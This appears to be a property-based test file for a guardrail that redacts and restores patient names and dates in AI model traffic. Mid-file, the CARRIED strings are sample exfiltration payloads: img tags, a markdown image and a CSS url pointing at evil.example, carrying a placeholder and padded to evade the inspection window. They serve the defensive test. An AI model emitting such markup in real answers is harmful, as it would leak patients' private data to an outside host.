"""Laws of the vault: what was taken out comes back exactly, and nobody is ever taken for somebody else."""

import asyncio
import json
import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from guardrail.engine.chain import Chain, Rule
from guardrail.engine.holdback import Pace
from guardrail.engine.vault import Vault
from guardrail.engine.worker import InlineInspector
from guardrail.rails.base import About, Window
from guardrail.rails.phi import LABELS
from guardrail.text import Action, Direction, Finding, Role, Span

ANSWER = About(direction=Direction.RESPONSE)
NASTY = st.sampled_from(
    ["[NAME_1]", "NAME_2", r"\g<0>", "$1", "{0}", "%s", "]", "[", "[DATE_1: 3 days after DATE_2]", "🩺", "\u200b"]
)
VALUES = st.one_of(NASTY, st.text(min_size=1, max_size=12), st.dates().map(str)).filter(
    lambda value: not value.isspace()
)
ITEMS = st.lists(st.tuples(st.sampled_from(LABELS), VALUES), max_size=12)
NAMES = st.lists(
    st.sampled_from(["Maria Lopez", "M. Lopez", "Lopez", "Jon Silva", "Silva", "Ada", "Kim Novak"]),
    min_size=1,
    max_size=6,
)
GAPS = st.text(alphabet="ab .,\nß", max_size=6)


def same(label: str, value: str) -> tuple[str, str]:
    """The vault's own rule of identity is by words, in any case where case says nothing; numbers by their digits."""
    if sum(char.isdigit() for char in value) >= 4:
        value = re.sub(r"[ \t\n\u2010-\u2013-]", "", value)
    return label, " ".join(value.lower().split())


def taken_out(vault: Vault, items: list[tuple[str, str]]) -> list[str]:
    vault.reserve(value for _, value in items)
    return [vault.mint(label, value) for label, value in items]


def restored(vault: Vault, text: str) -> str:
    restorer = vault.restorer()
    out, at = [], 0
    for finding in restorer.inspect(Window(text), ANSWER):
        out += [text[at : finding.span.start], restorer.rewrite(finding, text, ANSWER) or ""]
        at = finding.span.end
    return "".join(out) + text[at:]


@given(items=ITEMS, gap=GAPS)
def test_what_was_taken_out_comes_back_exactly(items: list[tuple[str, str]], gap: str) -> None:
    """Redact and restore is the identity, whatever the values hold."""
    unique = list({same(*item): item for item in reversed(items)}.values())
    vault = Vault()
    marks = taken_out(vault, unique)
    sent = gap.join(f" {mark} " for mark in marks)
    assert restored(vault, sent) == gap.join(f" {value} " for _, value in unique)


@given(items=ITEMS)
def test_one_value_one_placeholder(items: list[tuple[str, str]]) -> None:
    """Different values never share a placeholder, and asking again gives the same one."""
    vault = Vault()
    marks = taken_out(vault, items)
    assert marks == [vault.mint(*item) for item in items]
    by_mark: dict[str, tuple[str, str]] = {}
    for item, mark in zip(items, marks, strict=True):
        assert by_mark.setdefault(mark, same(*item)) == same(*item)


@given(text=st.text(alphabet="[]_:NAMEDT0123 x", max_size=60), items=ITEMS)
def test_only_minted_placeholders_are_ever_restored(text: str, items: list[tuple[str, str]]) -> None:
    """Whatever the client or the model writes: if the vault did not mint it for a value, it stays."""
    vault = Vault()
    vault.reserve([text])
    marks = set(taken_out(vault, items))
    if not any(mark in text for mark in marks):
        assert restored(vault, text) == text


PEOPLE = st.lists(st.integers(0, 10**6), max_size=8, unique=True)


@given(PEOPLE)
def test_a_placeholder_tells_nothing_of_the_value(people: list[int]) -> None:
    """45 CFR 164.514(c): other people in the same order get the same placeholders."""
    vault, other = Vault(), Vault()
    marks = [vault.mint("NAME", f"Given{person} Sur{person}") for person in people]
    assert marks == [f"[NAME_{at}]" for at in range(1, len(people) + 1)]
    assert [other.mint("NAME", f"person{at}") for at in range(len(people))] == marks


@given(st.lists(st.text(min_size=1, max_size=20), min_size=1, max_size=8), st.text(max_size=200))
def test_a_repetition_is_where_it_says(values: list[str], text: str) -> None:
    """Echo never leaves the text, never overlaps itself in spaced scripts, and never raises."""
    vault = Vault()
    for value in values:
        vault.mint("NAME", value)
    for finding in vault.echo().inspect(Window(text), About()):
        assert 0 <= finding.span.start < finding.span.end <= len(text)


@settings(max_examples=5, deadline=None)
@given(seed=st.integers(0, 10**6))
@pytest.mark.case("TOK-11")
def test_five_thousand_people_in_one_request(seed: int) -> None:
    """Every one is replaced, found again and given back (TOK-11)."""
    names = [f"Pat{seed + at:07d}x Sur{at:05d}y" for at in range(5000)]
    text = "; ".join(names)
    vault = Vault()
    spans = [match.span() for match in re.finditer(r"[^;]+", text.replace("; ", ";;"))]
    findings = [Finding(Span(start, end), "phi", "NAME") for start, end in spans]
    vault.learn(findings, text.replace("; ", ";;"))
    assert vault.counts()["NAME"] == 5000
    assert sum(1 for _ in vault.echo().inspect(Window(text), About())) == 5000
    assert restored(vault, " ".join(f"[NAME_{at}]" for at in range(1, 5001))) == " ".join(names)


FILLER = "the plan was talked over with everybody on the ward, and nobody had a question left. " * 4
CARRIED = (
    f'<img alt="{FILLER}" src="https://evil.example/?q= [NAME_1]">',
    f'<img src="https://evil.example/?q={FILLER} [NAME_1]">',
    f"![x](<https://evil.example/?{FILLER} [NAME_1]>)",
    f'<img alt="> {FILLER.replace(".", ",")}" src="/a [NAME_1]">',
    f'<style>{FILLER} p{{background:url("https://evil.example/?q= [NAME_1]")}}</style>',
)


async def answered(text: str, size: int) -> str:
    """What the clinician reads if the words come `size` characters at a time."""
    vault = Vault()
    vault.mint("NAME", "Ada Quill")
    restorer = vault.restorer()
    rule = Rule(rail=restorer.name, action=Action.REPLACE, local=restorer, rewriter=restorer)
    chain = Chain((), InlineInspector({}), Pace())
    stream = chain.open(ANSWER, (rule,))
    cleared = [part for at in range(0, len(text), size) for part in await stream.feed(text[at : at + size])]
    return "".join(part.text for part in (*cleared, *await stream.flush()))


@pytest.mark.parametrize("said", CARRIED)
@pytest.mark.parametrize("size", [1, 9, 10_000])
def test_no_value_is_carried_out_by_an_address_however_long(said: str, size: int) -> None:
    """Filling that pushes the beginning of a tag or a link out of the window does not help (TOK-03); law 1 holds."""
    assert asyncio.run(answered(said, size)) == said


@pytest.mark.parametrize("size", [1, 9, 10_000])
def test_a_long_answer_gets_its_values_back(size: int) -> None:
    said = f"{FILLER}[NAME_1] slept. <b>{FILLER}</b> > 5 (see 'x') [NAME_1], {FILLER}"
    assert asyncio.run(answered(said, size)) == said.replace("[NAME_1]", "Ada Quill")


@settings(max_examples=150, deadline=None)
@given(NAMES, NAMES)
def test_a_conversation_that_is_continued_by_its_id_goes_on_with_the_same_placeholders(
    first: list[str], second: list[str]
) -> None:
    """What was told keeps its number, is restored, and nobody new gets a number that was in use."""
    earlier = Vault()
    _tell(earlier, first)
    told = {value: earlier.mint("NAME", value) for value in first}
    dates = {"3 May 2026": earlier.mint("DATE", "3 May 2026")}
    kept = json.loads(json.dumps(earlier.export()))
    later = Vault()
    later.resume(kept)
    _tell(later, second)
    now = {value: later.mint("NAME", value) for value in second}

    for value in set(first) & set(second):
        assert now[value] == told[value]
    assert later.mint("DATE", "3 May 2026") == dates["3 May 2026"]
    by_number: dict[str, set[str]] = {}
    for value, placeholder in {**told, **now}.items():
        by_number.setdefault(placeholder, set()).add(value)
    assert all(len(values) == 1 for values in by_number.values()), by_number
    restorer, about = later.restorer(), About(Direction.RESPONSE, Role.ASSISTANT)
    for value, placeholder in told.items():
        (found,) = restorer.inspect(Window(placeholder), about)
        assert restorer.rewrite(found, placeholder, about) == value


def _tell(vault: Vault, names: list[str]) -> None:
    text = ". ".join(names)
    places, at = [], 0
    for name in names:
        start = text.index(name, at)
        places.append(Finding(Span(start, start + len(name)), "phi", "NAME"))
        at = start + len(name)
    vault.learn(places, text)
    vault.answered()
